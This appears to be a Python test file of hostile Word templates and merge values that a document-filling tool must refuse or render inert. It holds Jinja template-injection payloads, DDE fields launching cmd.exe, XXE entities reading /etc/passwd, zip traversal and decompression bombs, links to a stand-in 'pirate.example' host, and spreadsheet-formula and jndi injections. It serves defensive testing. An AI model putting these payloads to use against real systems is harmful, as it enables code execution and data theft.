"""A hundred hostile Word models and values, by name; each is refused with a sentence, or filled and inert.

`REFUSES` gives a model and the code of its refusal; `INERTES` a model, its values, and what must (or must not, after
a « ! ») be read in the whole of the letter.
"""

import struct
import zipfile
import zlib
from io import BytesIO

from tests.documents.modeles_word import CORPS, FUSION, champ, document, lien, modele, p, parties, zipper

_RELS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
_PNG = b"\x89PNG\r\n\x1a\n" + struct.pack(">I4sII", 13, b"IHDR", 60_000, 60_000) + b"\x08\x02\0\0\0"
_GIF = b"GIF89a" + struct.pack("<HH", 65_535, 65_535)
_JPEG = b"\xff\xd8\xff\xe0\0\x04ab\xff\xc0\0\x11\x08" + struct.pack(">HH", 65_000, 65_000) + b"\0" * 9
_BMP = b"BM" + b"\0" * 16 + struct.pack("<ii", 100_000, -100_000)
_BOMBE = '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'
_FICHIER = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'


def _plus(nom: str, contenu: str | bytes, **options: str) -> bytes:
    return zipper(parties(**options) | {nom: contenu})


def _sans(nom: str) -> bytes:
    return zipper({cle: contenu for cle, contenu in parties().items() if cle != nom})


def _image(contenu: bytes, fin: str = "png") -> bytes:
    return _plus(f"word/media/image1.{fin}", contenu, liens=lien("image", f"media/image1.{fin}"))


def _entete(declaration: str, corps: str = "") -> bytes:
    texte = document(p(f"[nom] {corps}")).replace("?>", f"?>{declaration}", 1)
    return _plus("word/document.xml", texte)


def _deux_fois() -> bytes:
    sortie = BytesIO(modele())
    with zipfile.ZipFile(sortie, "a") as archive:
        archive.writestr("WORD/document.xml", document(p("autre")))
    return sortie.getvalue()


def _membre(nom: str, mode: int = 0, methode: int = zipfile.ZIP_DEFLATED) -> bytes:
    sortie = BytesIO(modele())
    with zipfile.ZipFile(sortie, "a") as archive:
        membre = zipfile.ZipInfo(nom)
        membre.external_attr = mode << 16
        archive.writestr(membre, "/etc/passwd", methode)
    return sortie.getvalue()


def _somme_fausse() -> bytes:
    return modele(p("x")).replace(struct.pack("<I", zlib.crc32(document(p("x")).encode())), b"\0" * 4)


def _chiffre() -> bytes:
    """Set the bit « encrypted » of every member, in both places where a zip tells it."""
    octets = bytearray(modele())
    for signature, ecart in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = octets.find(signature)
        while place >= 0:
            octets[place + ecart] |= 1
            place = octets.find(signature, place + 4)
    return bytes(octets)


def _menteur() -> bytes:
    """Say that the text unfolds to 100 bytes when it unfolds to many more."""
    octets = modele(p("A" * 200_000))
    taille = struct.pack("<I", len(document(p("A" * 200_000)).encode()))
    return octets.replace(taille, struct.pack("<I", 100))


def _externe(sorte: str, cible: str) -> bytes:
    return modele(p("[nom]"), liens=lien(sorte, cible, externe=True))


_REFUS_CALCUL = {
    "jinja : classe d’une chaîne": p("{{ ''.__class__ }}"),
    "jinja : toutes les classes": p("{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    "jinja : attribut privé": p("{{ nom.__init__ }}"),
    "jinja : attribut privé au fond": p("{{ nom.x._secret }}"),
    "jinja : globales": p("{{ self.__init__.__globals__.os.system('id') }}"),
    "jinja : appel": p("{{ range(9) }}"),
    "jinja : cycler": p("{{ cycler.__init__ }}"),
    "jinja : filtre": p("{{ nom | upper }}"),
    "jinja : filtre attr": p("{{ nom|attr('__class__') }}"),
    "jinja : filtre format": p("{{ '%s'|format(nom) }}"),
    "jinja : indice": p("{{ nom['__class__'] }}"),
    "jinja : arithmétique": p("{{ 7*7 }}"),
    "jinja : puissance sans fin": p("{{ 9**9**9 }}"),
    "jinja : chaîne": p("{{ 'a' }}"),
    "jinja : condition en ligne": p("{{ a if b else c }}"),
    "jinja : boucle": p("{% for x in range(999999999) %}a{% endfor %}"),
    "jinja : condition": p("{% if nom %}a{% endif %}"),
    "jinja : macro": p("{% macro m() %}{{ caller() }}{% endmacro %}"),
    "jinja : inclusion": p("{% include '/etc/passwd' %}"),
    "jinja : import": p("{% import 'os' as os %}"),
    "jinja : affectation": p("{% set x = ''.__class__ %}"),
    "jinja : paragraphe de docxtpl": p("{%p for a in b %}"),
    "jinja : texte riche de docxtpl": p("{{r nom }}"),
    "jinja : commentaire": p("{# secret #}"),
    "jinja : ouverte sans fin": p("{{ nom"),
    "jinja : fermée sans début": p("nom }}"),
    "jinja : nom de cent lettres": p("{{ " + "a" * 100 + " }}"),
    "jinja : coupée en passages": "<w:p><w:r><w:t>{</w:t></w:r><w:r><w:t>{ ''.__cl</w:t></w:r>"
    "<w:r><w:t>ass__ }}</w:t></w:r></w:p>",
    "jinja : par références de caractères": p("&#123;&#123; 7*7 &#125;&#125;"),
    "champ : INCLUDETEXT": champ('INCLUDETEXT "C:\\\\secret.docx"'),
    "champ : INCLUDEPICTURE": champ('INCLUDEPICTURE "http://pirate.example/x.png" \\d'),
    "champ : DDE": champ('DDE cmd "/c calc"'),
    "champ : DDEAUTO": champ('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'),
    "champ : DDEAUTO coupé": "<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>DD</w:instrText>"
    "</w:r><w:r><w:instrText>EAUTO x</w:instrText><w:fldChar w:fldCharType='end'/></w:r></w:p>",
    "champ : DDE simple": '<w:p><w:fldSimple w:instr="ddeauto cmd"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>',
    "champ : LINK": champ("LINK Excel.Sheet C:\\\\a.xlsx"),
    "champ : IMPORT": champ("IMPORT C:\\\\a.png"),
    "champ : DATABASE": champ('DATABASE \\d "C:\\\\base.mdb"'),
    "champ : MACROBUTTON": champ("MACROBUTTON AutoOpen Cliquez"),
    "champ : IF": champ('IF 1 = 1 "oui" "non"'),
    "champ : calcul": champ("= 1 + 1"),
    "champ : FILLIN": champ("FILLIN nom"),
    "champ : EMBED": champ("EMBED Package"),
    "champ : un dans le code d’un autre": "<w:p><w:r><w:fldChar w:fldCharType='begin'/><w:instrText>PAGE "
    f"</w:instrText></w:r>{FUSION}<w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>",
}
_REFUS_ACTIFS = {
    "macro : vbaProject.bin": _plus("word/vbaProject.bin", b"x"),
    "macro : projet VBA lié à une image": modele(liens=lien("vbaProject", "document.xml")),
    "macro : docm renommé": modele(genre=CORPS.replace("document.main", "document.macroEnabled.main")),
    "macro : docm de Microsoft": modele(genre="application/vnd.ms-word.document.macroEnabled.main+xml"),
    "macro : table des sortes": modele(types='<Default Extension="bin" ContentType="application/vnd.ms-office.VBA"/>'),
    "macro : à l’entrée d’un champ": modele("<w:p><w:r><w:entryMacro w:val='m'/></w:r></w:p>"),
    "objet : OLE incorporé": _plus("word/embeddings/oleObject1.bin", b"x"),
    "objet : document dans le document": _plus("word/embeddings/a.docx", modele()),
    "objet : élément object": modele("<w:p><w:r><w:object/></w:r></w:p>"),
    "objet : élément OLEObject": modele("<w:p><w:r><w:pict><o:OLEObject Type='Link'/></w:pict></w:r></w:p>"),
    "objet : morceau d’un autre format": modele("<w:altChunk r:id='rId9'/>"),
    "objet : sous-document": modele("<w:subDoc r:id='rId9'/>"),
    "objet : contrôle ActiveX": modele("<w:p><w:r><w:control r:id='rId9'/></w:r></w:p>"),
    "objet : page HTML jointe": _plus("word/a.html", "<script>"),
    "objet : exécutable joint": _plus("word/media/a.exe", b"MZ"),
    "objet : image SVG": _plus("word/media/a.svg", "<svg/>"),
    "objet : liaison inconnue": modele(liens=lien("aFChunk", "document.xml")),
}
_REFUS_EXTERNES = {
    "dehors : image du réseau": _externe("image", "http://pirate.example/x.png"),
    "dehors : image d’un partage": _externe("image", "\\\\pirate\\x.png"),
    "dehors : objet OLE du réseau": _externe("oleObject", "http://pirate.example/x"),
    "dehors : en-tête du réseau": _externe("header", "http://pirate.example/x.xml"),
    "dehors : lien vers un fichier": _externe("hyperlink", "file:///etc/passwd"),
    "dehors : lien vers un partage": _externe("hyperlink", "\\\\pirate\\partage"),
    "dehors : lien javascript": _externe("hyperlink", "javascript:alert(1)"),
    "dehors : lien ms-msdt": _externe("hyperlink", "ms-msdt:/id x"),
    "dehors : champ HYPERLINK file": modele(champ('HYPERLINK "file:///etc/passwd"')),
    "dehors : champ HYPERLINK sous une bulle": modele(champ('HYPERLINK \\o "bulle" "file:///x"')),
    "dehors : champ HYPERLINK partage": modele(champ("HYPERLINK \\\\pirate\\x")),
    "dehors : image VML": modele("<w:p><w:r><w:pict><v:imagedata src='http://pirate.example/x'/></w:pict></w:r></w:p>"),
    "dehors : image VML liée": modele("<w:p><w:r><w:pict><v:imagedata o:href='file:///x'/></w:pict></w:r></w:p>"),
}
_REFUS_GROS = {
    "bombe : cent mégaoctets de zéros": _plus("word/media/a.png", b"\0" * 100_000_000),
    "bombe : rapport": modele(p("A" * 6_000_000)),
    "bombe : six cents membres": zipper(parties() | {f"word/a{n}.xml": "<a/>" for n in range(600)}),
    "bombe : un million d’éléments": modele("<w:p/>" * 1_000_000),
    "bombe : dix-sept mégaoctets": b"PK\x03\x04" + b"\0" * (17 << 20),
    "bombe : trois mille champs": modele(p("{{ nom }}") * 3_000),
    "image : PNG de 3,6 milliards de points": _image(_PNG),
    "image : GIF démesuré": _image(_GIF, "gif"),
    "image : JPEG démesuré": _image(_JPEG, "jpg"),
    "image : BMP démesuré": _image(_BMP, "bmp"),
}
_REFUS_ABIMES = {
    "image : un programme": _image(b"MZ\x90"),
    "image : JPEG coupé": _image(b"\xff\xd8\xff\xe0\xff\xff", "jpg"),
    "image : PNG coupé": _image(b"\x89PNG\r\n\x1a\n\0"),
    "zip : taille menteuse": _menteur(),
    "zip : nom qui remonte": _membre("../../evil.xml"),
    "zip : nom absolu": _membre("/etc/evil.xml"),
    "zip : nom de Windows": _membre("C:/evil.xml"),
    "zip : barre inverse": _membre("word\\..\\..\\evil.xml"),
    "zip : lien symbolique": _membre("word/lien.xml", 0o120777),
    "zip : compression rare": _membre("word/a.xml", 0, zipfile.ZIP_LZMA),
    "zip : élément double à la casse près": _deux_fois(),
    "zip : coupé": modele()[:-200],
    "zip : somme fausse": _somme_fausse(),
    "zip : autre programme devant": b"MZ" + modele(),
    "zip : vide": b"",
    "zip : texte": b"Bonjour",
    "zip : ancien .doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
    "manque : table des sortes": _sans("[Content_Types].xml"),
    "manque : liaisons": _sans("_rels/.rels"),
    "manque : texte": _sans("word/document.xml"),
    "manque : en-tête": modele(liens=lien("header", "header1.xml")),
    "manque : liaison hors du document": modele(liens=lien("header", "../../../etc/passwd")),
    "sorte : classeur": modele(genre="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
    "sorte : texte d’une autre racine": _plus("word/document.xml", "<a/>"),
    "xml : bombe d’entités": _entete(_BOMBE, "&b;"),
    "xml : entité externe": _entete(_FICHIER, "&x;"),
    "xml : type de document du réseau": _entete('<!DOCTYPE a SYSTEM "http://pirate.example/a.dtd">'),
    "xml : entité de paramètre": _entete('<!DOCTYPE a [<!ENTITY % p SYSTEM "file:///etc/passwd">%p;]>'),
    "xml : entité dans les liaisons": _plus("_rels/.rels", f"{_FICHIER}{_RELS}</Relationships>"),
    "xml : entité dans les sortes": _plus("[Content_Types].xml", f"{_FICHIER}<Types/>"),
    "xml : UTF-16": _plus("word/document.xml", document(p("x")).replace("UTF-8", "UTF-16").encode("utf-16")),
    "xml : profond de mille": modele("<w:p>" * 1_000 + "</w:p>" * 1_000),
    "xml : inachevé": _plus("word/document.xml", document(p("x"))[:-9]),
    "champ : inachevé": modele("<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r></w:p>"),
    "champ : fin sans début": modele("<w:p><w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>"),
    "champ : trente l’un dans l’autre": modele(
        "<w:p><w:r>"
        + "<w:fldChar w:fldCharType='begin'/><w:instrText>REF a</w:instrText><w:fldChar w:fldCharType='separate'/>" * 30
        + "<w:fldChar w:fldCharType='end'/>" * 30
        + "</w:r></w:p>"
    ),
}
_PROTEGES = {
    "zip : chiffré": _chiffre(),
    "mot de passe : paquet chiffré": b"\xd0\xcf\x11\xe0" + "EncryptedPackage".encode("utf-16-le"),
}
_REVISES = {
    "suivi : texte supprimé": modele("<w:p><w:del><w:r><w:delText>Mme Martin</w:delText></w:r></w:del></w:p>"),
    "suivi : texte ajouté": modele("<w:p><w:ins><w:r><w:t>x</w:t></w:r></w:ins></w:p>"),
}
REFUSES = [
    *((nom, modele(corps), "modele_word_calcul") for nom, corps in _REFUS_CALCUL.items()),
    *((nom, octets, "modele_word_actif") for nom, octets in _REFUS_ACTIFS.items()),
    *((nom, octets, "modele_word_externe") for nom, octets in _REFUS_EXTERNES.items()),
    *((nom, octets, "modele_word_trop_gros") for nom, octets in _REFUS_GROS.items()),
    *((nom, octets, "modele_word_refuse") for nom, octets in _REFUS_ABIMES.items()),
    *((nom, octets, "modele_word_protege") for nom, octets in _PROTEGES.items()),
    *((nom, octets, "modele_word_revise") for nom, octets in _REVISES.items()),
]

_TOUT = p("[nom]") + p("{{ nom }}") + f"<w:p>{FUSION}</w:p>"
_VALEURS = {
    "valeur : accolades": ("{{ ''.__class__ }}", ["{{ ’’.__class__ }}"]),
    "valeur : bloc de jinja": ("{% for x in y %}", ["for x in y"]),
    "valeur : nom d’un autre champ": ("[prenom] {{ prenom }}", ["[prenom] {{ prenom }}"]),
    "valeur : balises de Word": ("</w:t><w:br/><w:object/>", ["&lt;/w:t&gt;&lt;w:br/&gt;"]),
    "valeur : entité": ("&x; &#0; <![CDATA[", ["&amp;x", "&amp;#0", "&lt;![CDATA["]),
    "valeur : format de Python": ("{0.__class__} %s %n ${jndi:ldap://x}", ["{0.__class__}", "%s", "jndi"]),
    "valeur : caractères de contrôle": ("a\x00b\x07c\x1bd\ufffee", ["abcde"]),
    "valeur : texte à l’envers": ("abc\u202edef\u2066ghi\u200b", ["abcdefghi", "!\u202e", "!\u2066"]),
    "valeur : moitié de caractère": ("a\ud800b", ["ab"]),
    "valeur : formule de tableur": ("=cmd|'/c calc'!A1", ["=cmd|"]),
    "valeur : champ de Word": ('{ DDEAUTO cmd "/k" }', ["DDEAUTO", "!instrText"]),
    "valeur : chemin": ("../../etc/passwd", ["../../etc/passwd"]),
}
_MODELES = {
    "modèle : nom simple qui fait peur": (p("{{ self }} {{ config }}"), ["[à compléter\u00a0: self]"]),
    "modèle : accès à un attribut": (p("{{ nom.upper }}"), ["[à compléter\u00a0: nom.upper]"]),
    "modèle : format de Python": (p("{0.__class__} %(nom)s ${nom}"), ["{0.__class__} %(nom)s ${nom}"]),
    "modèle : trois accolades": (p("{{{ nom }}}"), ["{Durand}"]),
    "modèle : crochets imbriqués": (p("[[nom]]"), ["[Durand]"]),
    "modèle : crochets vides": (p("[] [ ] ["), ["[] [ ] ["]),
    "modèle : instruction de traitement": (p("<?php system('id') ?>[nom]"), ["Durand", "!php"]),
    "modèle : commentaire": (p("<!-- Mme Martin -->[nom]"), ["Durand", "!Martin"]),
    "modèle : variables cachées": (p("[nom]") + "<w:docVars>secret</w:docVars>", ["Durand", "!secret"]),
}
INERTES = [
    *((nom, modele(_TOUT), valeur, attendus) for nom, (valeur, attendus) in _VALEURS.items()),
    *((nom, modele(corps), "Durand", attendus) for nom, (corps, attendus) in _MODELES.items()),
    (
        "dehors : modèle attaché du réseau, détaché",
        _externe("attachedTemplate", "http://pirate.example/x.dotm"),
        "Durand",
        ["Durand", "!pirate"],
    ),
    (
        "dehors : base de publipostage, oubliée",
        _externe("mailMergeSource", "file://pirate/x.mdb"),
        "Durand",
        ["Durand", "!pirate"],
    ),
    (
        "membre que rien n’appelle, oublié",
        _plus("word/caché.xml", "<secret/>"),
        "Durand",
        ["Durand", "!secret"],
    ),
]
